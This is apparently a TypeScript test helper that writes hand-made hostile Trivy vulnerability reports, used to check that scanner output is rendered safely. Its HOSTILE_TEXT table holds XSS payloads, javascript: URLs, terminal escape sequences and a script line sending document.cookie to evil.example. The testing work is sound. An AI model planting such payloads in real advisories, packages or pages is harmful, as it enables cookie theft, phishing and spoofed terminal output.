import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fixtures } from './cli.js';

/**
 * HAND-MADE hostile scanner reports for the hostile-input suite: a COPY of a real recorded Trivy report (see
 * ../shared/fixtures/PROVENANCE.md) with attacker-chosen text put where a malicious package or advisory could put
 * it. Real field names and structure, made values; every file written says `made` in its name.
 */

/** Text a package name, advisory title or description could carry, one flavour each. */
export const HOSTILE_TEXT = {
  markdown:
    '**bold** _em_ [click me](https://evil.example/phish) ![x](https://evil.example/x.png) # Heading > quote',
  html: '<img src=x onerror=alert(1)><a href="javascript:alert(1)">link</a><iframe src=//evil.example></iframe>',
  script:
    '<script>fetch("https://evil.example/"+document.cookie)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  pipes: 'a | b || c |---| d',
  backticks: '```\nfenced\n``` and `inline` and ``double``',
  mentions: 'ping @octocat and @github/security-team, see #1 and GH-2',
  // Colour, cursor movement, screen clear, an OSC 8 hyperlink, a title change, an 8-bit CSI, and a bidi override.
  ansi: '\u001b[31mRED\u001b[0m\u001b[2J\u001b[1;1H\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u001b]0;pwned\u0007\u009b31mC1\u202eevil',
  newlines: 'first line\nsecond line\r\n| injected | row |\u2028third',
  huge: `huge-${'A'.repeat(100_000)}`,
} as const;

export type HostileFlavour = keyof typeof HOSTILE_TEXT;
export const HOSTILE_FLAVOURS = Object.keys(HOSTILE_TEXT) as HostileFlavour[];

/** The plain id each flavour's finding gets, so that it can be found again in every output. */
export function hostileVulnerabilityId(index: number): string {
  return `CVE-2099-${String(9000 + index)}`;
}

interface TrivyVulnerability {
  VulnerabilityID: string;
  PkgName: string;
  PkgIdentifier?: { PURL?: string };
  InstalledVersion?: string;
  FixedVersion?: string;
  Severity?: string;
  Title?: string;
  Description?: string;
  PrimaryURL?: string;
  References?: string[];
  [key: string]: unknown;
}

interface TrivyReport {
  Results: { Target: string; Vulnerabilities?: TrivyVulnerability[]; [key: string]: unknown }[];
  [key: string]: unknown;
}

/** An advisory id that is itself hostile: ids reach rule ids, table cells and summary rows too. */
export const HOSTILE_ID = 'GHSA-<script>alert(1)</script>|@octocat|\u001b[2J`x`';

/**
 * alpine-310.json with one vulnerability per hostile flavour (cloned from the first real one): the flavour's text
 * in the package name, versions, title and description, and a `javascript:` primary URL; plus one whose id is
 * HOSTILE_ID. Severity CRITICAL so each is a violation and shows in every output.
 */
export function writeHostileTrivyReport(dir: string): { path: string; ids: Record<HostileFlavour, string> } {
  const report = JSON.parse(readFileSync(join(fixtures, 'trivy/alpine-310.json'), 'utf8')) as TrivyReport;
  const result = report.Results[0]!;
  const template = result.Vulnerabilities![0]!;
  const ids = {} as Record<HostileFlavour, string>;
  result.Vulnerabilities = HOSTILE_FLAVOURS.map((flavour, index) => {
    const text = HOSTILE_TEXT[flavour];
    const id = hostileVulnerabilityId(index);
    ids[flavour] = id;
    const { PkgIdentifier: _purl, ...rest } = template;
    return {
      ...rest,
      VulnerabilityID: id,
      PkgName: `${flavour}-${text}`,
      InstalledVersion: `1.0 ${text}`,
      FixedVersion: `1.1 ${text}`,
      Severity: 'CRITICAL',
      Title: `${flavour} title ${text}`,
      Description: `${flavour} description ${text}`,
      PrimaryURL: 'javascript:alert(document.domain)',
      References: [
        `https://evil.example/${flavour}?q=${encodeURIComponent(text.slice(0, 200))}`,
        'javascript:alert(2)',
      ],
    };
  });
  result.Vulnerabilities.push({
    ...template,
    VulnerabilityID: HOSTILE_ID,
    PkgName: 'plain-package',
    Severity: 'CRITICAL',
  });
  const path = join(dir, 'trivy-alpine-310.hostile.made.json');
  writeFileSync(path, JSON.stringify(report, null, 2));
  return { path, ids };
}

/** Any Trivy report with its Vulnerabilities replaced by `edit` applied to a copy of the first one. */
export function writeEditedTrivyReport(
  dir: string,
  name: string,
  edits: readonly ((template: TrivyVulnerability) => TrivyVulnerability)[],
): string {
  const report = JSON.parse(readFileSync(join(fixtures, 'trivy/alpine-310.json'), 'utf8')) as TrivyReport;
  const result = report.Results[0]!;
  const template = result.Vulnerabilities![0]!;
  result.Vulnerabilities = edits.map((edit) => edit(structuredClone(template)));
  const path = join(dir, `${name}.made.json`);
  writeFileSync(path, JSON.stringify(report, null, 2));
  return path;
}

/** A Trivy report (secrets or config) with each Result's Target replaced: where SARIF locations come from. */
export function writeTrivyReportWithTargets(
  dir: string,
  fixture: string,
  name: string,
  targets: readonly string[],
): string {
  const report = JSON.parse(readFileSync(join(fixtures, fixture), 'utf8')) as TrivyReport;
  const template = report.Results[0]!;
  report.Results = targets.map((Target) => ({ ...structuredClone(template), Target }));
  const path = join(dir, `${name}.made.json`);
  writeFileSync(path, JSON.stringify(report, null, 2));
  return path;
}
